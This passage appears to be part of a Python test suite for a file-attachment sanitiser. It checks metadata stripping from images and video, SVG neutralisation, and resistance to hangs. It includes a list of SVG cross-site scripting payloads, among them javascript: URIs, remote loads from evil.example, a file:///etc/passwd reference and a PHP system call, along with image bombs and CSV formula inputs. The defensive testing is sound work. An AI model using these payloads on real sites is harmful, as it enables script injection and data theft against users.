    orientation: int, name: str, options: dict[str, Any], published: Callable[[str, bytes], bytes]
) -> None:
    kind = {"jpg": "JPEG", "png": "PNG", "webp": "WEBP"}[name[2:]]
    content = picture(kind, exif=exif(orientation), **options)
    assert b"SECRETMAKER" in content
    before = Image.open(io.BytesIO(content)).convert("RGB")
    clean = published(name, content)
    after = Image.open(io.BytesIO(clean))
    assert after.format == kind
    assert b"SECRETMAKER" not in clean
    assert not after.getexif()
    turned = orientation > 4
    assert after.size == ((32, 48) if turned else (48, 32))
    off = max(
        abs(a - b)
        for x in range(after.width)
        for y in range(after.height)
        for a, b in zip(
            after.getpixel((x, y)),  # type: ignore[arg-type]
            before.getpixel(STORED[orientation](x, y, 48, 32)),  # type: ignore[arg-type]
            strict=True,
        )
    )
    assert off <= (4 if kind == "JPEG" else 0)


SECRET = b"SECRETMARK"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.jpg", picture(comment=SECRET, xmp=b"<x:xmpmeta>SECRETMARK</x:xmpmeta>")),
        ("a.jpg", picture() + picture(comment=SECRET)),
        ("a.jpg", picture("MPO", save_all=True, append_images=[blocks()], comment=SECRET)),
        ("a.png", picture("PNG", pnginfo=noted("SECRETMARK"))),
        ("a.png", picture("PNG")[:33] + png_chunk(b"prVt", SECRET) + picture("PNG")[33:]),
        ("a.webp", picture("WEBP", xmp=SECRET)),
        ("a.gif", picture("GIF", comment=SECRET)),
        ("a.gif", frames("GIF", comment=SECRET)),
        ("a.webp", frames("WEBP", xmp=SECRET, exif=exif())),
        ("a.png", frames("PNG")[:33] + png_chunk(b"tEXt", SECRET) + frames("PNG")[33:]),
        ("a.jpg", picture(icc_profile=ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() + SECRET)),
    ],
)
def test_nothing_is_said_about_a_picture(name: str, content: bytes, published: Callable[[str, bytes], bytes]) -> None:
    assert SECRET in content
    clean = published(name, content)
    assert SECRET not in clean
    after, before = Image.open(io.BytesIO(clean)), Image.open(io.BytesIO(content))
    assert not {"exif", "xmp", "icc_profile", "comment", "photoshop"} & set(after.info)
    assert before.format != "WEBP" or clean[12:16] != b"VP8X" or not clean[20] & 0b0010_1100
    if before.format != "MPO":
        assert getattr(after, "n_frames", 1) == getattr(before, "n_frames", 1)
    for number in range(getattr(after, "n_frames", 1)):
        before.seek(number)
        after.seek(number)
        assert after.info.get("duration") == before.info.get("duration")
        pairs = zip(after.convert("RGB").tobytes(), before.convert("RGB").tobytes(), strict=True)
        assert max(abs(a - b) for a, b in pairs) <= (24 if name.endswith(("jpg", "webp")) else 0)


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_png_keeps_its_pixels(mode: str, published: Callable[[str, bytes], bytes]) -> None:
    image = Image.frombytes(mode, (4, 4), bytes(range(32))) if mode == "I;16" else blocks(mode=mode)
    out = io.BytesIO()
    image.save(out, "PNG")
    content = out.getvalue()
    after = Image.open(io.BytesIO(published("a.png", content)))
    before = Image.open(io.BytesIO(content))
    assert (after.mode, after.size) == (before.mode, before.size)
    assert after.tobytes() == before.tobytes()


def test_png_keeps_what_is_transparent(published: Callable[[str, bytes], bytes]) -> None:
    image = Image.new("P", (2, 1))
    image.putpalette([255, 0, 0, 0, 255, 0])
    image.putpixel((1, 0), 1)
    out = io.BytesIO()
    image.save(out, "PNG", transparency=0)
    after = Image.open(io.BytesIO(published("a.png", out.getvalue()))).convert("RGBA")
    assert [after.getpixel((x, 0)) for x in (0, 1)] == [(255, 0, 0, 0), (0, 255, 0, 255)]


def test_colours_are_brought_to_srgb(published: Callable[[str, bytes], bytes]) -> None:
    """A profile in which red means green: without it the picture would change its colours."""
    profile = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    red, green = profile.index(b"rXYZ"), profile.index(b"gXYZ")
    profile[red : red + 4], profile[green : green + 4] = b"gXYZ", b"rXYZ"
    out = io.BytesIO()
    Image.new("RGB", (4, 4), (250, 10, 10)).save(out, "PNG", icc_profile=bytes(profile))
    after = Image.open(io.BytesIO(published("a.png", out.getvalue())))
    r, g, b = after.getpixel((0, 0))  # type: ignore[misc]
    assert g > 240
    assert r < 20
    assert b < 20
    assert "icc_profile" not in after.info


def test_broken_notes_do_not_stop_a_picture(published: Callable[[str, bytes], bytes]) -> None:
    for notes in (b"Exif\0\0II*\0\xff\xff\xff\xff", b"Exif\0\0nonsense", exif(1)[:30], b"Exif\0\0" + bytes(99)):
        assert published("a.jpg", picture(exif=notes, icc_profile=b"nonsense"))


def test_jpeg_keeps_its_quality(published: Callable[[str, bytes], bytes]) -> None:
    content = picture(size=(160, 160), quality=97, subsampling=0)
    after = Image.open(io.BytesIO(published("a.jpg", content)))
    before = Image.open(io.BytesIO(content))
    assert after.quantization == before.quantization  # type: ignore[attr-defined]


# Video -----------------------------------------------------------------------------------------------------------


def test_video_does_not_say_where(published: Callable[[str, bytes], bytes]) -> None:
    content = mp4(box(b"uuid", b"0123456789abcdef", b"<x:xmpmeta/>"))
    clean = published("a.mp4", content)
    assert b"+13.7563" not in clean
    assert b"xmpmeta" not in clean
    assert len(clean) == len(content)
    assert clean.index(b"picture") == content.index(b"picture")
    assert clean.count(b"free") == 3


# SVG -------------------------------------------------------------------------------------------------------------

PNG64 = base64.b64encode(picture("PNG", (2, 2))).decode()
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script href='data:text/javascript,alert(1)'/>",
    "<script xlink:href='//evil.example/a.js'/>",
    "<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>",
    f"<script {XHTML}>alert(1)</script>",
    "<g><g><script type='application/ecmascript'><![CDATA[alert(1)]]></script></g></g>",
    "<rect onclick='alert(1)' onload='alert(1)' width='1'/>",
    "<rect onclick='start'/>",
    "<rect ONMOUSEOVER='alert(1)'/>",
    "<rect s:onclick='alert(1)' xmlns:s='http://www.w3.org/2000/svg'/>",
    "<a href='javascript:alert(1)'><text>x</text></a>",
    "<a xlink:href='javascript:alert(1)'><text>x</text></a>",
    "<a xlink:href=' java&#10;script:alert(1)'><rect/></a>",
    "<a href='data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;'><text>x</text></a>",
    "<a href='https://evil.example'><text>x</text></a>",
    f"<foreignObject><div {XHTML}><img src='x' onerror='alert(1)'/></div></foreignObject>",
    f"<foreignObject><iframe {XHTML} src='javascript:alert(1)'/></foreignObject>",
    f"<iframe {XHTML} src='//evil.example'/>",
    f"<body {XHTML} onload='alert(1)'/>",
    "<use href='https://evil.example/a.svg#x'/>",
    "<use xlink:href='data:image/svg+xml;base64,PHN2Zy8+#x'/>",
    "<use href='//evil.example/a.svg#x'/>",
    "<use href='other.svg#x'/>",
    "<image href='https://evil.example/pixel.png'/>",
    "<image xlink:href='file:///etc/passwd'/>",
    "<image href='data:image/svg+xml,&lt;svg onload=alert(1)&gt;'/>",
    "<image href='data:image/png;base64,PHNjcmlwdD4='/>",
    "<image href='data:text/html;base64,PHNjcmlwdD4='/>",
    "<feImage href='https://evil.example/a.png'/>",
    "<filter id='f'><feImage xlink:href='//evil.example/a.png'/></filter>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>@import url(//evil.example/a.css);</style>",
    "<style>rect { fill: url(https://evil.example/a.svg#x) }</style>",
    "<style>rect { fill: URL( 'https://evil.example/a.svg#x' ) }</style>",
    "<style>rect { background: \\75rl(https://evil.example) }</style>",
    "<style>rect { mask: image-set('https://evil.example/a.png' 1x) }</style>",
    "<style>rect { fill: url(#a) url(data:text/html,x) }</style>",
    "<style>@font-face { font-family: x; src: url(//evil.example/f.woff) }</style>",
    f"<style><script {XHTML}>alert(1)</script></style>",
    "<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
    "<rect style='fill:url(https://evil.example/a.svg#x)'/>",
    "<rect style='background:u\\72l(//evil.example)'/>",
    "<rect style='behavior:url(a.htc);width:expression(alert(1))'/>",
    "<rect style=\"-moz-binding:url('//evil.example/a.xml#x')\"/>",
    "<rect fill='url(//evil.example/a.svg#x)'/>",
    "<rect filter='url(\"https://evil.example/f.svg#x\")'/>",
    "<rect mask='src(\"https://evil.example/a.png\")'/>",
    "<rect cursor='url(//evil.example/c.cur)'/>",
    "<linearGradient xlink:href='https://evil.example/a.svg#g'/>",
    "<textPath href='//evil.example/a.svg#p'>x</textPath>",
    "<pattern href='https://evil.example/a.svg#p'/>",
    "<rect><animate attributeName='href' values='javascript:alert(1)'/></rect>",
    "<a id='a'><set attributeName='xlink:href' to='javascript:alert(1)'/><text>x</text></a>",
    "<set attributeName='onmouseover' to='alert(1)'/>",
    "<animate onbegin='alert(1)' attributeName='x' dur='1s'/>",
    "<animateTransform onend='alert(1)' attributeName='transform'/>",
    "<animateMotion><mpath href='//evil.example/a.svg#p'/></animateMotion>",
    "<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>alert(1)</handler>",
    "<listener event='load' handler='#x' xmlns='http://www.w3.org/2001/xml-events'/>",
    "<rect xml:base='javascript:alert(1)//'/>",
    "<?xml-stylesheet href='javascript:alert(1)'?><rect/>",
    "<?php system('id') ?>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>",
    f"<desc><img {XHTML} src='x' onerror='alert(1)'/></desc>",
    f"<title><a {XHTML} href='javascript:alert(1)'>x</a></title>",
    f"<math xmlns='http://www.w3.org/1998/Math/MathML'><a {XHTML} href='javascript:alert(1)'>x</a></math>",
    f"<metadata><x {XHTML} onload='alert(1)'/></metadata>",
    f"<video {XHTML} src='//evil.example/a.mp4' onerror='alert(1)'/>",
    "<discard href='#x'/><tref xlink:href='//evil.example/a.svg#t'/>",
    f"<switch><foreignObject><p {XHTML} onclick='alert(1)'>x</p></foreignObject></switch>",
    "<text>&lt;img src=x onerror=alert(1)&gt;</text>",
    '<rect class="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>',
    '<rect aria-label="&quot; onload=&quot;alert(1)"/>',
]


class Page(html.parser.HTMLParser):
    """Goes through the bytes as if they had been sent as a web page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def nothing_acts(clean: bytes) -> None:
    """As XML and as HTML: only drawing, and no address but places in the file and pictures it carries."""
    document = ElementTree.fromstring(clean)
    elements: list[tuple[str, list[tuple[str, str | None]]]] = [
        (element.tag.rpartition("}")[2], [(key.rpartition("}")[2], value) for key, value in element.attrib.items()])
        for element in document.iter()
    ]
    assert {element.tag.partition("}")[0] for element in document.iter()} == {"{http://www.w3.org/2000/svg"}
    page = Page()
    page.feed(clean.decode())
    styles = [element.text or "" for element in document.iter("{http://www.w3.org/2000/svg}style")]
    for tag, attributes in (*elements, *page.found):
        assert not re.match(
            r"(?i)script|foreign|iframe|img|feimage|animat|set$|a$|div|body|handler|meta|video|math", tag
        )
        for key, value in attributes:
            name = key.lower().rpartition(":")[2]
            assert not name.startswith("on")
            assert name not in ("src", "action", "base", "data", "to", "from", "by")
            if name == "href":
                assert re.match(r"#\w|data:image/(?:png|jpeg|gif|webp);base64,[\w+/=]+$", value or "")
            elif name not in ("class", "aria-label", "svg", "xlink", "xmlns"):
                styles.append(value or "")
    for style in styles:
        assert not re.search(r"(?i)@|\\|//|javascript:|expression|src\(|image-set|url\((?!['\"]?#)", style), style


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_an_svg_acts(attack: str, published: Callable[[str, bytes], bytes]) -> None:
    kept = "<circle id='kept' r='1'/>"
    clean = published("a.svg", svg(f"{attack}{kept}", "onload='alert(1)'").encode())
    nothing_acts(clean)
    assert b'id="kept"' in clean


def test_what_attacks_would_be_noticed() -> None:
    """The judge of the test above is not blind."""
    noticed = 0
    for attack in ATTACKS:
        try:
            nothing_acts(svg(attack).encode())
        except AssertionError:
            noticed += 1
    # The others are harmless as they stand, and have to stay so when written out again.
    assert noticed >= len(ATTACKS) - 8


def test_an_honest_svg_stays(published: Callable[[str, bytes], bytes]) -> None:
    inside = (
        "<title>แผนภูมิ &lt;1&gt; &amp; “2”</title><style>.a > b { fill: rgb(1, 2, 3); stroke: url(#g) }</style>"
        '<defs><linearGradient id="g" x1="0"><stop offset="0" stop-color="#fff"/></linearGradient></defs>'
        '<g transform="translate(1,2) rotate(3)" style="fill:url(#g)"><path d="M0 0L1 1z" fill="url(\'#g\')"/></g>'
        '<text x="1" xml:space="preserve">ก้ำ <tspan dy="1">๒</tspan> tail</text><use xlink:href="#g"/>'
    )
    clean = published("a.svg", svg(inside).encode())
    before, after = ElementTree.fromstring(svg(inside)), ElementTree.fromstring(clean)
    assert ElementTree.tostring(before) == ElementTree.tostring(after)


def test_words_of_links_and_choices_stay(published: Callable[[str, bytes], bytes]) -> None:
    inside = (
        "<text>see <a href='https://www.go.th'>here</a> <script>x</script>and there</text>"
        "<switch><foreignObject/><text>label</text></switch>"
    )
    root = ElementTree.fromstring(published("a.svg", svg(inside).encode()))
    assert ["".join(text.itertext()) for text in root.iter("{http://www.w3.org/2000/svg}text")] == [
        "see here and there",
        "label",
    ]


def test_pictures_in_an_svg_are_cleaned(published: Callable[[str, bytes], bytes]) -> None:
    content = base64.b64encode(picture(exif=exif(6))).decode()
    clean = published("a.svg", svg(f'<image href="data:image/jpeg;base64,{content}"/>').encode())
    match = re.search(rb'xlink:href="data:image/jpeg;base64,([^"]+)"', clean)
    assert match
    inner = base64.b64decode(match[1])
    assert b"SECRETMAKER" not in inner
    assert Image.open(io.BytesIO(inner)).size == (32, 48)


def test_bombs_in_an_svg_are_left_out(published: Callable[[str, bytes], bytes]) -> None:
    out = io.BytesIO()
    Image.new("1", (8_000, 8_000)).save(out, "PNG")
    content = base64.b64encode(out.getvalue()).decode()
    assert b"data:" not in published("a.svg", svg(f'<image href="data:image/png;base64,{content}"/>').encode())


def test_other_languages_are_left_out(published: Callable[[str, bytes], bytes]) -> None:
    inside = "<x:rect xmlns:x='urn:x' id='gone'>gone</x:rect><rect xmlns='' id='gone'/><rect id='kept'/>"
    clean = published("a.svg", svg(inside).encode())
    assert b"kept" in clean
    assert b"gone" not in clean


def test_svg_that_multiplies(published: Callable[[str, bytes], bytes]) -> None:
    """Ten uses of ten uses of …: a browser would draw without end."""
    levels = "".join(f"<g id='l{n + 1}'>" + f"<use href='#l{n}'/>" * 10 + "</g>" for n in range(8))
    clean = published("a.svg", svg(f"<rect id='l0'/>{levels}<use href='#l8'/>").encode())
    uses = [u.get("{http://www.w3.org/1999/xlink}href") for u in ElementTree.fromstring(clean).iter() if "use" in u.tag]
    assert [use for use in uses if use] == ["#l8"]
    many = f"<g id='g'>{'<rect/>' * 1000}</g>" + "<use href='#g'/>" * 1000
    assert b"xlink:href=" not in published("a.svg", svg(many).encode())
    circle = "<g id='a'><use href='#a'/></g>"
    assert b"xlink:href=" not in published("a.svg", svg(circle).encode())


# Anything at all -------------------------------------------------------------------------------------------------

SMALL = [(name, content) for _, name, content in BAD.values() if isinstance(content, bytes) and len(content) < 20_000]
MODELS = [*GOOD.values(), *SMALL]


@settings(ANY_PACE, max_examples=300)
@given(
    st.sampled_from(MODELS),
    st.lists(st.tuples(st.floats(0, 1), st.binary(max_size=6), st.integers(0, 9)), max_size=6),
)
def test_nothing_raises(tmp_path: Path, model: tuple[str, bytes], changes: list[tuple[float, bytes, int]]) -> None:
    """Changed anywhere: refused or passed, and what passed can be published and is clean."""
    name, content = model
    data = bytearray(content)
    for where, put, dropped in changes:
        at = int(where * len(data))
        data[at : at + dropped] = put
    path = tmp_path / f"x{Path(name).suffix}"
    path.write_bytes(data)
    if not list(attachments.problems(path)):
        clean = attachments.published(path)
        assert b"SECRETMAKER" not in clean
        if path.suffix == ".svg":
            nothing_acts(clean)
    assert path.read_bytes() == data


@ANY_PACE
@given(st.sampled_from(attachments.ALLOWED), st.sampled_from([b"", *(m for m, _ in attachments._MAGIC)]), st.binary())
def test_noise(tmp_path: Path, extension: str, magic: bytes, noise: bytes) -> None:
    path = tmp_path / f"x.{extension}"
    path.write_bytes(magic + noise)
    if not list(attachments.problems(path)):
        assert extension in ("txt", "csv") or not (magic + noise)
        attachments.published(path)


SLOW = {
    "streams": ("a.pdf", b"stream\n"),
    "object streams": ("a.pdf", b"/ObjStm/First 1 stream\n"),
    "streams of nothing": ("a.pdf", b"stream\n" + zlib.compress(b"1 2 ")),
    "opening": ("a.pdf", b"/OpenAction 1 0 R "),
    "openings": ("a.pdf", b"".join(b"/OpenAction %d 0 R " % n for n in range(9))),
    "objects": ("a.pdf", b"1 0 obj "),
    "digits": ("a.pdf", b"1 "),
    "escapes": ("a.pdf", b"#41"),
    "slashes": ("a.pdf", b"/"),
    "spaces": ("a.pdf", b" "),
    "formulas": ("a.csv", b"=|("),
    "cells": ("a.csv", b",-(|"),
    "blank lines": ("a.csv", b"\n "),
    "calls": ("a.csv", b"=CALL "),
    "markers": ("a.jpg", b"\xff\xfe\0\2"),
    "fill": ("a.jpg", b"\xff"),
    "scans": ("a.jpg", b"\xff\xda\0\2a"),
    "frames": ("a.gif", b",\0\0\0\0\1\0\1\0\0\2\0"),
    "blocks": ("a.gif", b"\1a"),
    "chunks": ("a.png", png_chunk(b"tEXt", b"")),
    "elements": ("a.svg", b"<g a='1'/>"),
    "depth": ("a.svg", b"<g>"),
    "boxes": ("a.mp4", box(b"free")),
    "zips": ("a.docx", b"PK\x05\x06\0\0\0\0"),
}
HEADS = {
    "csv": b"a",
    "docx": b"PK\x03\x04",
    "gif": b"GIF89a\1\0\1\0\0\0\0!\xfe",
    "jpg": b"\xff\xd8\xff\xfe\0\2",
    "mp4": box(b"ftyp", b"isom"),
    "pdf": b"%PDF-1.7 ",
    "png": b"\x89PNG\r\n\x1a\n",
    "svg": svg("").encode()[:-6],
}


@pytest.mark.parametrize("name", SLOW)
def test_nothing_hangs(name: str, tmp_path: Path) -> None:
    """The same few bytes over and over, a megabyte of them: what takes quadratic time would take minutes."""
    file, unit = SLOW[name]
    extension = file[2:]
    tail = b"1 0 obj startxref %%EOF" if extension == "pdf" else b""
    path = tmp_path / file
    path.write_bytes(HEADS[extension] + unit * (1_000_000 // len(unit)) + tail)
    ends(lambda: list(attachments.problems(path)), 2)
